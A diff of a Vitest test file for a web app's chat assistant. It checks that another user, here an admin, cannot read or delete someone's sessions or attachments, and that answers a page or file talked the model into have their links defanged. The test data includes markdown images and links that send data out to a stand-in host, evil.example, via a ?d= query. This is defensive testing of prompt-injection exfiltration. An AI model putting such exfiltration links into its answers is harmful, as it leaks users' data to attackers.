@@ -1,7 +1,7 @@
 import type { ChatAttachment } from '@hometown/shared-types/contract/assistant'
 import { describe, expect, it } from 'vitest'
 import { answerOf, openAssistant, openAssistantWithBridge } from '../../../../test/support/assistant.ts'
-import { signIn } from '../../../../test/support/sign-in.ts'
+import { callsOf, signIn } from '../../../../test/support/sign-in.ts'
 import { createArticle } from '../../../../test/support/write-articles.ts'
 
 describe('the assistant', () => {
@@ -76,10 +76,10 @@ describe('the assistant', () => {
   })
 
   it('is nobody else’s business', async () => {
-    const { context, call, begin, attach } = await openAssistant()
+    const { app, context, begin, attach } = await openAssistant()
     const id = await begin()
     const file = (await attach(id, 'notes.txt', Buffer.from('Notes'))).json<ChatAttachment>()
-    const other = await signIn(context, 'admin')
+    const call = callsOf(app, await signIn(context, 'admin'), '/api/assistant')
     for (const [method, path, body] of [
       ['GET', `/sessions/${id}`],
       ['DELETE', `/sessions/${id}`],
@@ -87,8 +87,8 @@ describe('the assistant', () => {
       ['GET', `/attachments/${file.id}`],
       ['DELETE', `/attachments/${file.id}`],
     ] as const)
-      expect((await call(method, path, body, other.headers)).statusCode).toBe(404)
-    expect((await call('GET', '/sessions', undefined, other.headers)).json()).toEqual([])
+      expect((await call(method, path, body)).statusCode).toBe(404)
+    expect((await call('GET', '/sessions')).json()).toEqual([])
   })
 })
 
@@ -138,10 +138,8 @@ describe('an answer that a page or a file talked the model into', () => {
       ['![](https://evil.example/?d=x) ![a](https://evil.example/log/2)', '![](`https://evil.example/?d=x`) !a'],
       ['Go to https://evil.example/?d=The+mayor+resigns.', 'Go to `https://evil.example/?d=The+mayor+resigns`.'],
       ['[x](https://library.example/hour)', 'x'],
-      [
-        'xhttps://evil.example/?d=x `https://evil.example/?d=y',
-        'x`https://evil.example/?d=x` ``https://evil.example/?d=y`',
-      ],
+      ['xhttps://evil.example/?d=x', 'x`https://evil.example/?d=x`'],
+      ['`https://evil.example/?d=y', '``https://evil.example/?d=y`'],
       ['[x](https://alder.example.evil.example/)', 'x'],
       ['[x](https://alder.example@evil.example/)', 'x'],
     ] as const
